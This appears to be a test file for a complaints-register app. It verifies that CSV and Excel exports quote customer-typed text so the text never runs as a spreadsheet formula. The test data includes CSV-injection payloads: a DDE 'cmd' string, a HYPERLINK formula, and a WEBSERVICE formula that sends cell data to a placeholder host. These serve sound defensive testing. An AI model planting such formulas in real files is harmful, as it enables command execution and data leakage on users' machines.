"""Exports are inert: text a customer typed never becomes a formula in the spreadsheet
that opens the file (OWASP "CSV injection"), and a CSV export still re-imports exactly."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from models.book import opinions
from models.core.actors import CLI_ACTOR, Actor
from models.core.formulas import looks_like_formula, neutralise, restore
from models.maintenance.store import open_store
from models.register import lifecycle
from models.register.complaints import create_complaint
from models.register.importer import import_csv
from models.register.records import COLUMNS, iter_records
from models.storage.schema import Complaint
from reports.export import export_to, write_csv, write_json, write_opinions
from reports.words import words
from reports.xlsx import write_xlsx

from tests.factories import make_form
from tests.rawdb import Raw

AT = dt.datetime(2026, 10, 5, 10, 30)
MONTH = "202610"

# What OWASP lists, as a customer could type them into each field of a complaint.
ATTACKS = {
    "summary": '=HYPERLINK("http://x","click")',
    "customer_name": "=1+1",
    "description": "+cmd|' /C calc'!A0",
    "desired_outcome": "@SUM(1+1)",
    "customer_phone": "+44 20 7946 0958",  # a real phone number that looks like a formula
    "customer_id_no": "-1234",  # and a negative number
    "subject_text": "'=already quoted by the customer",  # one more quote, one off again
    "vulnerable_note": "-2+3",
}
REMEDY = '=WEBSERVICE("http://x/?"&A1)'


def _complaint_of_attacks(actor: Actor) -> Complaint:
    c = create_complaint(actor, make_form(received_at=AT, vulnerable=True, **ATTACKS))
    lifecycle.acknowledge(actor, c.id)
    lifecycle.start_investigation(actor, c.id)
    lifecycle.resolve(
        actor, c.id, outcome="upheld", remedy=REMEDY, compensation="12.50", root_cause="@x"
    )
    return c


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# -- the quote itself --------------------------------------------------------------------


def test_each_formula_start_gets_one_quote_and_plain_text_none() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(start + "1+1") == "'" + start + "1+1"
    for plain in ("", "'", "Nguyễn", "13812341234", "a=b", " =1", "'quoted", "#N/A"):
        assert neutralise(plain) == plain
    assert neutralise("''=1") == "'''=1"


@given(st.text())
def test_the_import_takes_off_exactly_the_quote_the_export_added(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    assert not looks_like_formula(written)


# -- CSV -------------------------------------------------------------------------------


def test_csv_cells_that_look_like_formulas_start_with_a_quote(manager) -> None:
    _complaint_of_attacks(manager)
    out = io.StringIO()
    assert write_csv(out, MONTH, actor=manager, full=True) == 1
    (row,) = _csv_rows(out.getvalue())
    for column, text in ATTACKS.items():
        assert row[column] == "'" + text, column
    assert row["remedy"] == "'" + REMEDY and row["root_cause"] == "'@x"
    assert row["compensation"] == "12.50" and row["customer_name"] != "=1+1"
    assert all(not looks_like_formula(value) for value in row.values())


def test_tab_and_carriage_return_at_the_start_are_quoted_too(
    manager, store, tmp_path: Path
) -> None:
    """The app strips them from what is typed; a value put there by a database tool is
    exported as safely."""
    c = create_complaint(manager, make_form(received_at=AT))
    raw = Raw(store)
    raw.execute(
        "UPDATE complaint SET summary = ?, description = ? WHERE id = ?",
        ("\t=1+1", "\r=2+2", c.id),
    )
    raw.commit_and_close()
    out = io.StringIO()
    write_csv(out, MONTH, actor=manager, full=True)
    (row,) = _csv_rows(out.getvalue())
    assert (row["summary"], row["description"]) == ("'\t=1+1", "'\r=2+2")
    write_xlsx(tmp_path / "m.xlsx", MONTH, actor=manager, full=True)
    sheet = load_workbook(tmp_path / "m.xlsx")["Register"]
    header = list(COLUMNS)  # (the headings are words in the chosen language)
    cells = dict(zip(header, sheet[2], strict=False))
    for column, text in (("summary", "\t=1+1"), ("description", "\r=2+2")):
        # (XML reads a carriage return back as a line feed.)
        assert (cells[column].value[1:], cells[column].data_type) == (text[1:], "s")


def test_json_keeps_the_text_exact(manager) -> None:
    _complaint_of_attacks(manager)
    out = io.StringIO()
    write_json(out, MONTH, actor=manager, full=True)
    (record,) = json.loads(out.getvalue())
    for column, text in ATTACKS.items():
        assert record[column] == text
    assert record["remedy"] == REMEDY


def test_csv_export_reimports_to_the_same_values(manager, store, tmp_path: Path) -> None:
    _complaint_of_attacks(manager)
    exported = tmp_path / "all.csv"
    assert export_to(exported, "csv", actor=manager, full=True) == 1
    text = exported.read_text(encoding="utf-8-sig")
    assert "'=1+1" in text and "'+44 20 7946 0958" in text  # quoted in the file
    before = list(iter_records())
    store.close()
    other = open_store(tmp_path / "fresh")
    try:
        report = import_csv(CLI_ACTOR, exported)
        assert report.ok, report.errors
        after = list(iter_records())
    finally:
        other.close()
    assert after == before
    for column, value in ATTACKS.items():
        assert after[0][column] == value


# -- Excel -----------------------------------------------------------------------------


def test_xlsx_cells_are_text_or_numbers_never_formulas(manager, tmp_path: Path) -> None:
    c = _complaint_of_attacks(manager)
    create_complaint(manager, make_form(received_at=AT, summary="#N/A", customer_name="@me"))
    out = tmp_path / "m.xlsx"
    assert write_xlsx(out, MONTH, actor=manager, full=True) == 2
    book = load_workbook(out)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type in ("s", "n", "d") for cell in cells if cell.value is not None)
    rows = list(book["Register"].iter_rows())
    w = words("en")  # the headings are in the chosen language, in the order of COLUMNS
    assert [cell.value for cell in rows[0]][: len(COLUMNS)] == [w["field_" + c] for c in COLUMNS]
    header = list(COLUMNS)
    first = {name: cell for name, cell in zip(header, rows[1], strict=False)}
    assert first["register_no"].value == c.register_no
    for column, text in {**ATTACKS, "remedy": REMEDY}.items():
        cell = first[column]
        assert (cell.value, cell.data_type) == (text, "s"), column
        assert cell.quotePrefix == looks_like_formula(text), column  # stays text when edited
    assert (first["compensation"].value, first["compensation"].data_type) == (12.5, "n")
    assert first["extension_level"].data_type == "n"
    second = {name: cell.value for name, cell in zip(header, rows[2], strict=False)}
    assert (second["summary"], second["customer_name"]) == ("#N/A", "@me")


def test_xlsx_column_widths_are_kept(manager, tmp_path: Path) -> None:
    """Write-only sheets take their column widths before the first row, or never."""
    _complaint_of_attacks(manager)
    out = tmp_path / "m.xlsx"
    write_xlsx(out, MONTH, actor=manager, full=True)
    sheet = load_workbook(out)["Register"]
    letter = get_column_letter(COLUMNS.index("summary") + 1)
    assert sheet.column_dimensions[letter].width == 40


# -- the opinion book --------------------------------------------------------------------


def test_opinion_text_is_quoted_in_csv_and_exact_in_json(clerk, manager) -> None:
    today = dt.date.today()
    entry = opinions.add_entry(
        clerk,
        opinions.EntryForm(
            kind="complaint",
            written_on=today,
            text='=HYPERLINK("http://x","click")',
            name="@SUM(1+1)",
            contact="+44 20 7946 0958",
            about_service="-1+1",
        ),
    )
    opinions.reply(clerk, entry.id, "+cmd|' /C calc'!A0", "in_book")
    month = today.strftime("%Y%m")
    out = io.StringIO()
    assert write_opinions(out, "csv", month, actor=manager, full=True) == 1
    (row,) = _csv_rows(out.getvalue())
    assert row["text"] == '\'=HYPERLINK("http://x","click")'
    assert (row["name"], row["contact"]) == ("'@SUM(1+1)", "'+44 20 7946 0958")
    assert (row["about_service"], row["reply_text"]) == ("'-1+1", "'+cmd|' /C calc'!A0")
    assert row["id"] == str(entry.id)
    out = io.StringIO()
    write_opinions(out, "json", month, actor=manager, full=True)
    (record,) = json.loads(out.getvalue())
    assert record["text"] == '=HYPERLINK("http://x","click")' and record["name"] == "@SUM(1+1)"
